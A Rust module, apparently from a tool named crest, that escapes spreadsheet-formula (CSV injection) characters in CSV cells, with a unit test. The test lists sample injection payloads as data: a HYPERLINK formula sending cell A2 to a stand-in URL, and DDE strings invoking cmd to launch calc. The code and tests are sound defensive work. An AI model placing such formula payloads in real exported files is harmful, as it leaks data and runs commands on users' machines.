//! Cells that people open in a spreadsheet (privacy.md, "Files holding identifiable data";
//! OWASP's CSV injection guidance): a text cell starting with `=`, `+`, `-`, `@`, a tab or a
//! carriage return would be run as a formula by Excel, LibreOffice or Google Sheets, so it is
//! written with a leading apostrophe, which they show as text and never evaluate.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula.
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell` as it is safe to write into a CSV meant for a spreadsheet. Plain numbers (`-3.5`)
/// are left alone: a spreadsheet reads them as numbers, never as formulas.
pub fn safe_cell(cell: &str) -> Cow<'_, str> {
    let risky = cell.starts_with(TRIGGERS) && cell.trim().parse::<f64>().is_err();
    if risky {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// Undoes [`safe_cell`] when a file crest wrote is read back: a leading apostrophe before a
/// formula character is dropped, anything else is kept as it is.
pub fn unguard_cell(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(TRIGGERS) && rest.trim().parse::<f64>().is_err() => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_everything_else_is_untouched() {
        for (raw, safe) in [
            (
                "=HYPERLINK(\"http://x/?\"&A2,\"click\")",
                "'=HYPERLINK(\"http://x/?\"&A2,\"click\")",
            ),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("-3.5", "-3.5"),
            ("+44", "+44"),
            ("Smith-Jones", "Smith-Jones"),
            ("", ""),
            ("'quoted", "'quoted"),
        ] {
            assert_eq!(safe_cell(raw), safe, "{raw:?}");
            assert_eq!(unguard_cell(&safe_cell(raw)), raw, "round trip {raw:?}");
        }
    }
}
